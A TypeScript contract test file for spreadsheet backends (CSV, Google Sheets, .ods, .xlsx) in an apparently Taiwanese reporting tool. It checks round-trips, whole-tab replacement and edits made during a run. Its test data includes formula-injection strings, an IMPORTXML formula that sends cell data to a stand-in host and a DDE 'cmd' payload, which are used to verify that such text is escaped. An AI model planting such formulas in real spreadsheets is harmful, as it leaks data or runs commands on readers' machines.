// The Workbook port's contract, run against every backend (CSV folder, Google Sheets, and the
// .xlsx / .ods backends through the same function): what a write leaves is what the next read
// sees; output tabs are replaced whole; of a user's tab only the 檢核結果 cells (and, in a tab
// with keyed columns, the system's columns of the keyed rows) change; tab names and text survive
// exactly as typed. Each backend says how the contract reaches it, in
// test/contract/backends/, and joins BACKENDS below. The tests are written in this file, not in
// a module it imports, because `vitest list` reads test files without running them.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ReplaceHooks } from '../../functions/workbooks/guarded-replace.ts';
import { runConsolidation } from '../../shared/run-consolidation.ts';
import type { Cell, Changes, KeyedColumns, Tab, Workbook } from '../../shared/workbook.ts';
import { aWorkbook, FORM_HEADER, goodForm, keyedDrafts, NOW } from '../builders.ts';
import { asRead, tabsArbitrary } from '../functions/random-tabs.ts';
import { csvFolder } from './backends/csv-folder.ts';
import { googleSheets } from './backends/google-sheets.ts';
import { odsFile } from './backends/ods.ts';
import { xlsxFile } from './backends/xlsx.ts';

/** How the contract reaches a backend. */
export interface ContractBackend {
  /** Creates a workbook holding these tabs, as a user would have made it; returns its location. */
  create(tabs: readonly Tab[]): Promise<string>;
  /** Opens the workbook at a location, as a fresh process would. */
  open(location: string): Workbook;
  /** Whether numbers and booleans read back typed (CSV has no cell types: everything reads as text). */
  readonly typedCells: boolean;
  /** Whether output text that would start a formula is written behind an apostrophe (CSV, which Excel opens as formulas). */
  readonly outputsForExcel?: boolean;
  /**
   * Replaces what the workbook at `location` holds, as a user editing it between a run's read and
   * its write would. Given for the backends that read again before writing (the local files), which
   * must then put each verdict beside its own row; Google Sheets writes by position and relies on
   * the rebuild's re-run instead (test/functions/rebuild/unit-spreadsheet-rebuild.test.ts).
   */
  readonly edit?: (location: string, tabs: readonly Tab[]) => Promise<void>;
  /** Adds a row at the end of a tab, as a unit typing in it does; by default an `edit` of what the workbook holds. */
  readonly typeRow?: (location: string, tab: string, row: readonly Cell[]) => Promise<void>;
  /** Opens the workbook with hooks into the moments of a write (the local files, guarded-replace.ts). */
  readonly openWithHooks?: (location: string, hooks: ReplaceHooks) => Workbook;
}

const FORM = '表單回應 1';
const UNIT_TAB = "It's 填報-民政課";
const PLAN_TAB = '計畫';
const TRICKY_TEXT = ['=1+1', '+886 2 2720 8889', '-3天', '@所有人', '=IMPORTXML("https://x.example/?"&A1,"//a")', "=cmd|'/c calc'!A1"];

const formTab = (): Tab => ({
  name: FORM,
  rows: [
    ['時間戳記', '填報單位', '具體作法', '執行成效'],
    ['2026/4/2 上午 9:15:00', '民政課', '2-1', '完成問卷設計'],
    ['2026/4/3 上午 9:15:00', '社會課'],
    [],
    ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行'],
  ],
});
const unitTab = (): Tab => ({
  name: UNIT_TAB,
  rows: [
    ['填報期間', '辦理狀態', '檢核結果'],
    ['115年3月', '辦理中', '舊的結果'],
    ['115年4月', '落後'],
  ],
});
const planTab = (): Tab => ({
  name: PLAN_TAB,
  rows: [
    ['項次', '具體作法'],
    ['1-1', '檢討各項申請表單'],
  ],
});

const DRAFT_TAB = '年度成效';
// Keyed columns whose second draft has two lines.
const drafts = (): KeyedColumns =>
  keyedDrafts([
    { key: '1-1', values: ['草稿一', '採用系統草稿'] },
    { key: '1-2', values: ['草稿二\n第二行', '採用公告文字'] },
  ]);

const BACKENDS: Readonly<Record<string, ContractBackend>> = {
  'CSV folder': csvFolder,
  'Google Sheets (msw fake)': googleSheets,
  '.ods file': odsFile,
  '.xlsx file': xlsxFile,
};

for (const [name, backend] of Object.entries(BACKENDS)) workbookContract(name, backend);

/** Registers the contract's tests for one backend. */
function workbookContract(name: string, backend: ContractBackend): void {
  const text = (cell: Cell): Cell => {
    if (backend.typedCells || cell === null || typeof cell === 'string') return cell;
    return typeof cell === 'boolean' ? (cell ? 'TRUE' : 'FALSE') : String(cell);
  };
  const expected = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map(text));
  const tabsOf = async (workbook: Workbook) => new Map((await workbook.read()).tabs.map((tab) => [tab.name, tab.rows]));
  const writeAndReopen = async (tabs: readonly Tab[], ...writes: Changes[]) => {
    const location = await backend.create(tabs);
    for (const changes of writes) {
      const workbook = backend.open(location);
      await workbook.read();
      await workbook.write(changes);
    }
    return tabsOf(backend.open(location));
  };

  describe(`Workbook contract: ${name}`, () => {
    const { edit, openWithHooks } = backend;
    it('reads back the tabs it holds, names with spaces, apostrophes and Chinese included', async () => {
      const tabs = await tabsOf(backend.open(await backend.create([planTab(), formTab(), unitTab()])));
      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
      expect(tabs.get(FORM)).toEqual(formTab().rows);
      expect(tabs.get(UNIT_TAB)).toEqual(unitTab().rows);
    });

    it('reads back what it holds: CJK, several lines, leading =, spaces, tabs, numbers, booleans, blanks, ragged rows', async () => {
      await fc.assert(
        fc.asyncProperty(tabsArbitrary, async (tabs) => {
          // Tabs by name: a CSV folder lists its files in its own order.
          const read = await tabsOf(backend.open(await backend.create(tabs)));
          expect(read).toEqual(new Map(tabs.map((tab) => [tab.name, expected(asRead(tab.rows))])));
        }),
        { numRuns: 40 },
      );
    });

    it('reads back the output tabs it wrote', async () => {
      const output = {
        name: "管考總表 O'Brien",
        rows: [
          ['項次', '單位', '件數', '已完成'],
          ['1-1', '民政課', 3, true],
        ],
      };
      const tabs = await writeAndReopen([planTab()], { outputs: [output], verdicts: [] });
      expect(tabs.get(output.name)).toEqual(expected(output.rows));
      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
    });

    it('replaces an output tab whole: a shorter, narrower run leaves nothing of the longer one', async () => {
      const long = {
        name: '執行成效',
        rows: [
          ['項次', '具體作法', '執行成效', '佐證資料'],
          ...Array.from({ length: 30 }, (_, i) => [`${i}`, '作法', '成效', 'https://x.example/']),
          ['最後', '', '', '尾'],
        ],
      };
      const short = {
        name: '執行成效',
        rows: [
          ['項次', '具體作法'],
          ['1-1', '新的'],
        ],
      };
      const tabs = await writeAndReopen([planTab()], { outputs: [long], verdicts: [] }, { outputs: [short], verdicts: [] });
      expect(tabs.get('執行成效')).toEqual(short.rows);
    });

    it('changes only the 檢核結果 cells of a user tab, adding the column where it was missing', async () => {
      const verdictColumns: Changes['verdicts'] = [
        {
          tab: FORM,
          column: 4,
          values: ['檢核結果', '通過', '填報單位「社會課」不負責此作法。\n缺少執行成效。', '', '通過（與第2列重複，僅計一次）'],
        },
        { tab: UNIT_TAB, column: 2, values: ['檢核結果', '通過'] },
      ];
      const tabs = await writeAndReopen([planTab(), formTab(), unitTab()], { outputs: [], verdicts: verdictColumns });
      expect(tabs.get(FORM)).toEqual([
        ['時間戳記', '填報單位', '具體作法', '執行成效', '檢核結果'],
        ['2026/4/2 上午 9:15:00', '民政課', '2-1', '完成問卷設計', '通過'],
        ['2026/4/3 上午 9:15:00', '社會課', null, null, '填報單位「社會課」不負責此作法。\n缺少執行成效。'],
        [],
        ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行', '通過（與第2列重複，僅計一次）'],
      ]);
      // The old result in row 2 is replaced; row 3, past the values, keeps its cells.
      expect(tabs.get(UNIT_TAB)).toEqual([
        ['填報期間', '辦理狀態', '檢核結果'],
        ['115年3月', '辦理中', '通過'],
        ['115年4月', '落後'],
      ]);
      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
    });

    it('keeps a note in a column without a header when a run adds the 檢核結果 column', async () => {
      const noted: Tab = {
        name: '填報-民政課',
        rows: [
          ['具體作法', '填報期間', '辦理狀態', '執行成效'],
          ['2-1', '115年3月', '辦理中', '完成問卷設計', '主管交辦：下週再確認'],
          ['2-1', '115年4月', '辦理中', '回收問卷'],
        ],
      };
      const location = await backend.create([...aWorkbook([]).tabs, noted]);
      const workbook = backend.open(location);
      const run = runConsolidation({ snapshot: await workbook.read(), now: NOW });
      if (!run.ok) throw new Error(run.reason);
      await workbook.write(run.value.changes);
      expect((await tabsOf(backend.open(location))).get(noted.name)).toEqual([
        ['具體作法', '填報期間', '辦理狀態', '執行成效', null, '檢核結果'],
        ['2-1', '115年3月', '辦理中', '完成問卷設計', '主管交辦：下週再確認', '通過'],
        ['2-1', '115年4月', '辦理中', '回收問卷', null, '通過'],
      ]);
    });

    it("finds a unit tab's header below a title row: its rows are checked and 檢核結果 lands beside them, under the header", async () => {
      const titled: Tab = {
        name: '填報-民政課',
        rows: [
          ['民政課 115年度 填報表'],
          ['項次', '期間', '狀態', '執行情形'],
          ['2-1', '115年3月', '辦理中', '完成問卷設計'],
          ['2-1', '115年4月', '暫停', '回收問卷'],
        ],
      };
      const location = await backend.create([...aWorkbook([]).tabs, titled]);
      const workbook = backend.open(location);
      const run = runConsolidation({ snapshot: await workbook.read(), now: NOW });
      if (!run.ok) throw new Error(run.reason);
      await workbook.write(run.value.changes);
      const rows = (await tabsOf(backend.open(location))).get(titled.name) ?? [];
      expect(rows.slice(0, 2)).toEqual([['民政課 115年度 填報表'], ['項次', '期間', '狀態', '執行情形', '檢核結果']]);
      expect(rows[2]?.[4]).toBe('通過');
      expect(rows[3]?.[4]).toMatch(/^辦理狀態：/u);
      expect(run.value.output.problems.filter((problem) => problem.source === titled.name).map((problem) => problem.row)).toEqual([4]);
    });

    if (edit && openWithHooks) {
      it('keeps a row a user saved after the new content was written, before it replaced the file', async () => {
        const checked = goodForm({ 執行成效: '完成問卷設計' });
        const saved = goodForm({ 時間戳記: '2026/4/1 上午 8:00:00', 執行成效: '寫入期間存檔的一列' });
        const location = await backend.create(aWorkbook([checked]).tabs);
        let saves = 0;
        const workbook = openWithHooks(location, {
          asideWritten: async () => {
            if (saves++ === 0) await edit(location, aWorkbook([saved, checked]).tabs);
          },
        });
        const run = runConsolidation({ snapshot: await workbook.read(), now: NOW });
        if (!run.ok) throw new Error(run.reason);
        await workbook.write(run.value.changes);

        const rows = (await tabsOf(backend.open(location))).get(FORM) ?? [];
        expect(rows.map((row) => row[7] ?? null)).toEqual(['執行成效', '寫入期間存檔的一列', '完成問卷設計']);
        expect(rows.map((row) => row[FORM_HEADER.length] ?? null)).toEqual(['檢核結果', null, '通過']);
      });
    }
    if (edit) {
      it('puts each 檢核結果 beside the row it was computed for when a row was inserted above them meanwhile', async () => {
        const checkedGood = goodForm({ 執行成效: '完成問卷設計' });
        const checkedBad = goodForm({ 時間戳記: '2026/4/3 上午 9:15:00', 填報單位: '社會課', 具體作法: '1-2', 執行成效: null });
        const inserted = goodForm({ 時間戳記: '2026/4/1 上午 8:00:00', 執行成效: '手動補登的一列' });
        const before = aWorkbook([checkedGood, checkedBad]);
        const location = await backend.create(before.tabs);
        const workbook = backend.open(location);
        const run = runConsolidation({ snapshot: await workbook.read(), now: NOW });
        if (!run.ok) throw new Error(run.reason);
        const verdicts = run.value.changes.verdicts.find((column) => column.tab === FORM)?.values ?? [];
        expect(verdicts[1]).toBe('通過');
        expect(verdicts[2]).not.toBe('通過');

        await edit(location, aWorkbook([inserted, checkedGood, checkedBad]).tabs);
        await workbook.write(run.value.changes);

        const rows = (await tabsOf(backend.open(location))).get(FORM) ?? [];
        const column = FORM_HEADER.length;
        expect(rows.map((row) => row[column] ?? null)).toEqual(['檢核結果', null, '通過', verdicts[2]]);
        expect(rows[1]?.[7]).toBe('手動補登的一列');
      });
    }

    it('adds appended rows below the last row of a user tab, and nothing else changes', async () => {
      const appends = [
        {
          tab: UNIT_TAB,
          rows: [
            ['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'],
            ['115年5月', null, '待填報'],
          ],
        },
      ];
      const tabs = await writeAndReopen([planTab(), formTab(), unitTab()], { outputs: [], verdicts: [], appends });
      expect(tabs.get(UNIT_TAB)).toEqual([
        ...unitTab().rows,
        ['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'],
        ['115年5月', null, '待填報'],
      ]);
      expect(tabs.get(FORM)).toEqual(formTab().rows);
      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
    });

    const typeRow =
      backend.typeRow ??
      (edit &&
        (async (location: string, tab: string, row: readonly Cell[]) => {
          const held = (await backend.open(location).read()).tabs;
          await edit(
            location,
            held.map((candidate) => (candidate.name === tab ? { name: tab, rows: [...candidate.rows, row] } : candidate)),
          );
        }));
    if (typeRow) {
      it('appends after a row a unit typed between the read and the write, never over it', async () => {
        const location = await backend.create([planTab(), unitTab()]);
        const workbook = backend.open(location);
        await workbook.read();
        await typeRow(location, UNIT_TAB, ['115年4月', '已完成', '單位剛打的一列']);
        await workbook.write({ outputs: [], verdicts: [], appends: [{ tab: UNIT_TAB, rows: [['115年5月', '辦理中']] }] });
        expect((await tabsOf(backend.open(location))).get(UNIT_TAB)?.slice(3)).toEqual([
          ['115年4月', '已完成', '單位剛打的一列'],
          ['115年5月', '辦理中'],
        ]);
      });
    }

    it('makes a missing tab for keyed columns, with its header and a row per key', async () => {
      const tabs = await writeAndReopen([planTab()], { outputs: [], verdicts: [], keyedColumns: [drafts()] });
      expect(tabs.get(DRAFT_TAB)).toEqual([
        ['項次', '草稿', '公告文字', '狀態'],
        ['1-1', '草稿一', null, '採用系統草稿'],
        ['1-2', '草稿二\n第二行', null, '採用公告文字'],
      ]);
    });

    it('writes keyed columns into the row of each key, leaving every other cell of the tab as the user left it', async () => {
      const shared: Tab = {
        name: DRAFT_TAB,
        rows: [
          ['項次', '草稿', '公告文字', null, '備註'],
          ['1-2', '舊草稿', '研考人員寫的文字', null, '請科長看'],
          [null, null, '表中的說明列'],
        ],
      };
      const tabs = await writeAndReopen([planTab(), shared], { outputs: [], verdicts: [], keyedColumns: [drafts()] });
      expect(tabs.get(DRAFT_TAB)).toEqual([
        ['項次', '草稿', '公告文字', null, '備註', '狀態'],
        ['1-2', '草稿二\n第二行', '研考人員寫的文字', null, '請科長看', '採用公告文字'],
        [null, null, '表中的說明列'],
        ['1-1', '草稿一', null, null, null, '採用系統草稿'],
      ]);
    });

    if (edit) {
      it('writes keyed columns beside their keys when the user sorted the tab and typed text between the read and the write', async () => {
        const location = await backend.create([
          planTab(),
          { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-1'], ['1-2']] },
        ]);
        const workbook = backend.open(location);
        await workbook.read();
        await edit(location, [
          planTab(),
          { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-2', null, '剛寫好的文字'], ['1-1']] },
        ]);
        await workbook.write({ outputs: [], verdicts: [], keyedColumns: [drafts()] });
        expect((await tabsOf(backend.open(location))).get(DRAFT_TAB)).toEqual([
          ['項次', '草稿', '公告文字', '狀態'],
          ['1-2', '草稿二\n第二行', '剛寫好的文字', '採用公告文字'],
          ['1-1', '草稿一', null, '採用系統草稿'],
        ]);
      });
    }

    it('keeps text that starts with = + - @ as the text it is, in outputs and in 檢核結果', async () => {
      const output = { name: '檢核錯誤', rows: [['說明'], ...TRICKY_TEXT.map((value) => [value])] };
      const verdictColumns = [{ tab: UNIT_TAB, column: 2, values: ['檢核結果', TRICKY_TEXT[0] ?? '', TRICKY_TEXT[3] ?? ''] }];
      const tabs = await writeAndReopen([unitTab()], { outputs: [output], verdicts: verdictColumns });
      expect(tabs.get('檢核錯誤')).toEqual(
        backend.outputsForExcel ? [['說明'], ...TRICKY_TEXT.map((value) => [`'${value}`])] : output.rows,
      );
      expect(tabs.get(UNIT_TAB)?.map((row) => row[2])).toEqual(['檢核結果', '=1+1', '@所有人']);
    });

    it('keeps ragged rows and blank rows inside, and drops trailing blank cells and rows', async () => {
      const output = { name: '單位摘要', rows: [['a', 'b', 'c'], ['d'], [], [null, 'e', null, 'f', null, null], [], [null, null]] };
      const tabs = await writeAndReopen([planTab()], { outputs: [output], verdicts: [] });
      expect(tabs.get('單位摘要')).toEqual([['a', 'b', 'c'], ['d'], [], [null, 'e', null, 'f']]);
    });
  });
}
